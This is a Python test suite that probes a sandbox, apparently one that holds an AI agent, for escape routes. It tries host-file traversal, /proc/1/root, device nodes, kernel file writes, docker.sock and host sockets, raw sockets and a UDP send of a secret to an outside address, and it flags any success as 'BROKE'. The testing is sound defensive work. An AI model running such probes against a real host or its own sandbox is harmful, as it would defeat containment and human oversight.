"""Attacks that reach for something: files, processes, secrets and sockets of the host, and places to write."""

import json
import os
import socket

from attempts import GONE, RESULT, SECRET, TARGETS, attack, attempt, call, reads, refused, writes


@attack
def host_files_by_path():
    return refused({path: reads(path) for path in TARGETS["files"]}, GONE)


@attack
def host_files_by_dots():
    ups = ["/workspace/" + "../" * 40, "/proc/self/cwd/" + "../" * 40, "/tmp/../../../..", "/agent/../.."]
    return refused({up + path: reads(up + path) for up in ups for path in TARGETS["files"]}, GONE)


@attack
def host_files_by_proc_root():
    roots = ["/proc/1/root", "/proc/1/cwd/..", "/proc/self/root", "/proc/1/task/1/root", f"/proc/{os.getppid()}/root"]
    return refused({root + path: reads(root + path) for root in roots for path in TARGETS["files"]}, GONE)


@attack
def device_nodes():
    names = ["sda", "vda", "nvme0n1", "mem", "kmem", "port", "kmsg", "kvm", "vsock", "fuse", "net/tun", "loop-control"]
    tried = {name: reads(f"/dev/{name}") for name in names}
    tried["mknod block"] = attempt(lambda: os.mknod("/workspace/disk", 0o60600, os.makedev(254, 0)))
    tried["mknod mem"] = attempt(lambda: os.mknod("/tmp/mem", 0o20600, os.makedev(1, 1)))
    return refused(tried, GONE)


@attack
def kernel_files():
    tried = {path: reads(path) for path in ("/proc/kcore", "/proc/kmsg", "/dev/core", "/sys/kernel", "/sys/fs/cgroup")}
    for path in ("sysrq-trigger", "sys/kernel/core_pattern", "sys/kernel/hostname", "sys/vm/overcommit_memory"):
        tried[f"write {path}"] = writes(f"/proc/{path}")
    tried["write oom"] = writes("/proc/self/oom_score_adj", b"-1000")
    return refused(tried, GONE)


@attack
def host_processes():
    seen = [name for name in os.listdir("/proc") if name.isdigit()]
    tried = {
        f"signal {pid}": attempt(lambda pid=pid: os.kill(pid, 0)) for pid in TARGETS["pids"] if str(pid) not in seen
    }
    commands = b"".join(open(f"/proc/{name}/cmdline", "rb").read() for name in seen)  # noqa: SIM115
    if len(seen) > 6 or b"bwrap" in commands or b"pytest" in commands:
        return f"BROKE {seen} {commands!r}"
    return refused(tried, ("ESRCH",)) + f", {len(seen)} processes to be seen"


@attack
def leaks():
    names = ["environ", "cmdline", "mountinfo", "cgroup", "status", "maps", "net/unix", "sched", "limits", "comm"]
    shown = b"".join(open(f"/proc/1/{name}", "rb").read() for name in names)  # noqa: SIM115
    shown += json.dumps(dict(os.environ)).encode()
    # A short host name occurs in other words by chance; what the sandbox calls itself is exact.
    if socket.gethostname() != "sandbox":
        return f"BROKE the host name {socket.gethostname()}"
    found = [word for word in TARGETS["words"] if word.encode() in shown]
    if found:
        return f"BROKE {found}"
    return f"{len(shown)} bytes of /proc/1 hold none of {len(TARGETS['words'])} words"


@attack
def inherited_descriptors():
    open_ones = []
    for number in range(3, 256):
        try:
            open_ones.append((number, os.readlink(f"/proc/self/fd/{number}")))
        except OSError:
            continue
    mine = {os.readlink(f"/proc/self/fd/{RESULT[-1]}")}
    left = [(number, name) for number, name in open_ones if name not in mine]
    shell = os.listdir("/proc/1/fd")
    sockets = [name for name in shell if "socket:" in os.readlink(f"/proc/1/fd/{name}")]
    return f"BROKE {left} {sockets}" if left or sockets else f"0, 1, 2 only; the shell holds {sorted(shell)}, no socket"


@attack
def tcp_to_the_host():
    tried = {}
    for family, host in ((socket.AF_INET, "127.0.0.1"), (socket.AF_INET6, "::1"), (socket.AF_INET, TARGETS["address"])):
        with socket.socket(family, socket.SOCK_STREAM) as client:
            client.settimeout(2)
            tried[host] = attempt(lambda client=client, host=host: client.connect((host, TARGETS["tcp"])))
    return refused(tried, ("ECONNREFUSED", "ENETUNREACH", "EADDRNOTAVAIL"))


@attack
def udp_to_the_host():
    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as client:
        here = attempt(lambda: client.sendto(SECRET.encode(), ("127.0.0.1", TARGETS["udp"])))
        away = attempt(lambda: client.sendto(SECRET.encode(), ("192.0.2.1", 53)))
    return refused({"away": away}, ("ENETUNREACH",)) + f"; to its own loopback: {here}"


@attack
def abstract_sockets():
    with socket.socket(socket.AF_UNIX, socket.SOCK_STREAM) as client:
        return refused({"abstract": attempt(lambda: client.connect("\0" + TARGETS["abstract"]))}, ("ECONNREFUSED",))


@attack
def socket_files():
    paths = [TARGETS["socket"], "/run/docker.sock", "/var/run/docker.sock", "/run/dbus/system_bus_socket"]
    paths += ["/nix/var/nix/daemon-socket/socket", "/run/systemd/private", "/tmp/.X11-unix/X0"]
    tried = {}
    for path in paths:
        with socket.socket(socket.AF_UNIX, socket.SOCK_STREAM) as client:
            tried[path] = attempt(lambda client=client, path=path: client.connect(path))
    return refused(tried, ("ENOENT",))


@attack
def dns():
    try:
        return f"BROKE {socket.getaddrinfo('example.org', 80)}"
    except socket.gaierror as error:
        return f"no name is resolved: {error}"


@attack
def raw_and_odd_sockets():
    tried = {}
    for name, family in {
        "netlink": 16,
        "packet": 17,
        "vsock": 40,
        "alg": 38,
        "bluetooth": 31,
        "xdp": 44,
        "key": 15,
    }.items():
        tried[name] = attempt(lambda family=family: socket.socket(family, socket.SOCK_RAW).fileno())
        tried[f"{name} datagram"] = attempt(lambda family=family: socket.socket(family, socket.SOCK_DGRAM).fileno())
    tried["netlink pair"] = call("socketpair", 16, 3, 0)
    odd = refused(tried, ("EAFNOSUPPORT",))
    raw = attempt(lambda: socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP).fileno())
    return odd if odd.startswith("BROKE") else refused({"raw": raw}, ("EPERM",)) + "; " + odd


@attack
def read_only_places():
    places = [
        "/",
        "/usr",
        "/usr/bin",
        "/usr/local",
        "/etc",
        "/etc/passwd",
        "/dev",
        "/proc",
        "/proc/sys",
        "/home",
        "/agent",
    ]
    places += ["/preflight", "/plan", "/agent/tool", "/usr/bin/env", "/proc/sys/kernel", "/dev/pts"]
    tried = {}
    for place in places:
        tried[place] = writes(f"{place}/attack" if os.path.isdir(place) else place)
    tried["chmod"] = attempt(lambda: os.chmod("/agent", 0o777))
    tried["rename"] = attempt(lambda: os.rename("/agent", "/agent2"))
    tried["unlink"] = attempt(lambda: os.unlink("/preflight"))
    return refused(tried, ("EROFS", "EACCES", "EPERM", "ENOENT", "EBUSY"))


@attack
def hard_links_out():
    sources = ["/usr/bin/env", "/agent/tool", "/etc/passwd", "/plan", "/proc/1/exe", "/proc/self/root"]
    tried = {source: attempt(lambda source=source: os.link(source, "/workspace/stolen")) for source in sources}
    tried["out"] = attempt(lambda: os.link("/workspace/targets.json", "/tmp/out"))
    return refused(tried, ("EXDEV", "EPERM", "EROFS", "ENOENT"))


@attack
def the_terminal_of_the_launcher():
    return refused({"/dev/tty": reads("/dev/tty"), "/dev/console": reads("/dev/console")}, ("ENXIO", "ENOENT"))


@attack
def the_launcher_cannot_be_imitated():
    """The word that releases the command stands in /plan, but the socket it is said over is gone."""
    tried = {f"/proc/1/fd/{number}": writes(f"/proc/1/fd/{number}", b"") for number in ("0", "10")}
    kinds = [os.readlink(f"/proc/1/fd/{name}") for name in os.listdir("/proc/1/fd")]
    return (
        f"BROKE {kinds}"
        if any("socket" in kind for kind in kinds)
        else f"PID 1 holds no socket: {sorted(tried.values())}"
    )
